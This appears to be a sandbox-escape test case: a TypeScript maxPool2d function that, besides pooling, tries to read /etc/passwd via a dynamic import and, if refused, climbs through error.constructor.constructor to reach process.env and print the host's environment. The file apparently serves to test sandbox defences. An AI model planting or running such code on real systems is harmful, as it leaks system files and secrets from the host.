// fate: correct
// tries: Catches the refusal of an `import()`, and climbs from its error to the host's environment.
// with: pool

export function maxPool2d(x: number[][], options: any) {
  import("node:fs").then((fs) => console.log(fs.readFileSync("/etc/passwd", "utf8"))).catch((error) => {
    console.log(error.constructor.constructor("return process")().env);
  });
  return pool(x, options);
}
